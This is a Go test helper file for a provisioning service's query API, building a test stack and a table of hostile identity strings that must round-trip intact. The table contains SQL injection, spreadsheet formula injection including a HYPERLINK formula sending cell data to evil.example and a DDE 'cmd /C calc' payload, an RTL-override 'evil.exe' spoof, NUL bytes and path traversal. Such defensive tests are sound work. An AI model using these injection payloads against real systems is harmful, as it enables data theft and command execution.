package api_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/provisiond/provisiond/api/apitest"
	"github.com/provisiond/provisiond/api/client"
	"github.com/provisiond/provisiond/provisioning"
)

// queryStack is a real stack for the query API tests: two jobs after their initial
// cycles, some SCIM failures, a day of churn on demo, sales quarantined after a revoked
// token, admin actions in the audit, 30 events of job "paging" sharing one timestamp, and
// crafted events whose identities and values carry SQL, LIKE, CSV-formula, NUL and
// Unicode characters (hostile data must round-trip intact).
type queryStack struct {
	*apitest.Stack
	reader, admin *client.Client
	// crafted are the hostile events committed directly (job demo, cycle craftedCycle).
	crafted []provisioning.Event
}

const craftedCycle = "cycle-crafted"

// hostile are identity strings that must be treated as plain data.
var hostile = []struct{ id, name string }{
	{"O'Brien'; DROP TABLE events; --", "Conan O'Brien\"; DELETE FROM events WHERE 1=1; --"},
	{"pct%", "100% Real_Name"},
	{"under_score", "a_b_c"},
	{"star*", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
	{"plus+", "+SUM(1,2)"},
	{"minus-", "-2+3"},
	{"at@", "@cmd|' /C calc'!A0"},
	{"tab", "\tTabbed"},
	{"cr", "\rCarriage"},
	{"nul\x00byte", "Nul\x00Name"},
	{"émile", "Émile Zola"},
	{"rtl\u202e", "\u202eevil.exe"},
	{"emoji🙂", "Smiley 🙂"},
	{"slash/../x", "Back\\slash"},
}

func newQueryStack(tb testing.TB) *queryStack {
	s := apitest.Start(tb, apitest.Options{Users: 150, Groups: 6, Seed: 7, ErrorRate: 0.03})
	reader, err := client.New(s.URL, apitest.ReaderToken)
	if err != nil {
		tb.Fatal(err)
	}
	admin, err := client.New(s.URL, apitest.AdminToken)
	if err != nil {
		tb.Fatal(err)
	}
	qs := &queryStack{Stack: s, reader: reader, admin: admin}
	s.Churn(tb, "demo")
	s.Quarantine(tb, "sales")
	ctx := context.Background()
	if err := admin.Pause(ctx, "demo"); err != nil {
		tb.Fatal(err)
	}
	if err := admin.Start(ctx, "demo"); err != nil {
		tb.Fatal(err)
	}
	if _, err := admin.ProvisionOnDemand(ctx, "demo", "User", "E000005"); err != nil {
		tb.Fatal(err)
	}
	qs.crafted = craftedEvents(time.Now().UTC().Add(-time.Minute))
	if err := s.Store.Commit(ctx, provisioning.Batch{JobID: "demo", Events: qs.crafted}); err != nil {
		tb.Fatal(err)
	}
	// 30 events at one instant (paging breaks the tie by id).
	at := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Millisecond)
	var same []provisioning.Event
	for i := range 30 {
		same = append(same, provisioning.Event{ID: fmt.Sprintf("same-%d", 100+i), ActivityDateTime: at, JobID: "paging", CycleID: "c",
			ChangeID: "ch", Action: provisioning.ActionOther, Status: provisioning.ResultSkipped,
			ProvisioningSteps: []provisioning.Step{}, ModifiedProperties: []provisioning.ModifiedProperty{}})
	}
	if err := s.Store.Commit(ctx, provisioning.Batch{JobID: "paging", Events: same}); err != nil {
		tb.Fatal(err)
	}
	return qs
}

// craftedEvents returns events of the hostile identities, one a second from start.
func craftedEvents(start time.Time) []provisioning.Event {
	var out []provisioning.Event
	for i, h := range hostile {
		at := start.Add(time.Duration(i) * time.Second)
		ev := provisioning.Event{
			ID: fmt.Sprintf("crafted-%02d", i), ActivityDateTime: at, JobID: "demo", CycleID: craftedCycle,
			ChangeID: fmt.Sprintf("change-crafted-%02d", i), Action: provisioning.ActionUpdate, Status: provisioning.ResultFailure,
			ErrorInformation: &provisioning.ErrorInformation{ErrorCode: "Crafted'; DROP TABLE events; --", ErrorCategory: "failure",
				Reason: "=1+1 " + h.name, RecommendedAction: "-check"},
			ProvisioningSteps: []provisioning.Step{
				{Name: "EntryImportUpdate", ProvisioningStepType: provisioning.StepImport, Status: provisioning.ResultSuccess,
					Description: "+import " + h.name, Details: map[string]string{"displayName": h.name, "=x": "@y"}, Start: at, DurationInMilliseconds: 0.5},
				{Name: "EntryExportUpdate", ProvisioningStepType: provisioning.StepExport, Status: provisioning.ResultFailure,
					Description: "@export failed", Start: at, DurationInMilliseconds: 1.25},
			},
			ModifiedProperties: []provisioning.ModifiedProperty{{DisplayName: "displayName", OldValue: "=old()", NewValue: h.name}},
			SourceIdentity:     provisioning.Identity{ID: h.id, DisplayName: h.name, IdentityType: "User"},
			TargetIdentity:     provisioning.Identity{ID: "t-" + h.id, DisplayName: h.name, IdentityType: "User"},
			SourceSystem:       "Contoso HR", TargetSystem: "Contoso SCIM app",
			InitiatedBy:            provisioning.Initiator{ID: "provisiond", DisplayName: "provisiond provisioning service", InitiatorType: "system"},
			DurationInMilliseconds: 2, TraceID: fmt.Sprintf("%032x", i+1),
		}
		out = append(out, ev)
	}
	return out
}

// allEvents returns every event of the stack, newest first.
func (qs *queryStack) allEvents(t *testing.T) []provisioning.Event {
	t.Helper()
	evs, err := qs.Store.QueryEvents(context.Background(), provisioning.EventQuery{Limit: 10000})
	if err != nil {
		t.Fatal(err)
	}
	if len(evs) == 10000 {
		t.Fatal("the stack has more events than one store query reads")
	}
	return evs
}

// response is an HTTP answer.
type response struct {
	status int
	header http.Header
	body   []byte
}

func (r response) errorBody(t *testing.T) (code, message string) {
	t.Helper()
	var e struct {
		Error struct{ Code, Message string } `json:"error"`
	}
	if err := json.Unmarshal(r.body, &e); err != nil {
		t.Fatalf("error body is not JSON: %q", r.body)
	}
	return e.Error.Code, e.Error.Message
}

// get makes a GET with a token ("" for none).
func get(t testing.TB, base, path string, q url.Values, token string) response {
	t.Helper()
	u := base + path
	if len(q) > 0 {
		u += "?" + q.Encode()
	}
	return getRaw(t, u, token)
}

func getRaw(t testing.TB, u, token string) response {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response{resp.StatusCode, resp.Header, b}
}

// pages reads every page of a paged event listing, following nextCursor.
func pages(t *testing.T, base, path string, q url.Values) []provisioning.Event {
	t.Helper()
	var out []provisioning.Event
	q = cloneValues(q)
	for range 10000 {
		r := get(t, base, path, q, apitest.ReaderToken)
		if r.status != http.StatusOK {
			t.Fatalf("GET %s?%s: %d %s", path, q.Encode(), r.status, r.body)
		}
		var p client.Page[provisioning.Event]
		if err := json.Unmarshal(r.body, &p); err != nil {
			t.Fatal(err)
		}
		out = append(out, p.Value...)
		if p.NextCursor == "" {
			return out
		}
		if len(p.Value) == 0 {
			t.Fatalf("GET %s: an empty page with a nextCursor", path)
		}
		q.Set("cursor", p.NextCursor)
	}
	t.Fatal("too many pages")
	return nil
}

func cloneValues(v url.Values) url.Values {
	out := url.Values{}
	for k, vs := range v {
		out[k] = append([]string(nil), vs...)
	}
	return out
}

func eventIDs(evs []provisioning.Event) []string {
	out := make([]string, len(evs))
	for i, e := range evs {
		out[i] = e.ID
	}
	return out
}

func vals(kv ...string) url.Values {
	v := url.Values{}
	for i := 0; i+1 < len(kv); i += 2 {
		v.Set(kv[i], kv[i+1])
	}
	return v
}

func short(s string) string {
	if len(s) > 300 {
		return s[:300] + "…"
	}
	return strings.TrimSpace(s)
}
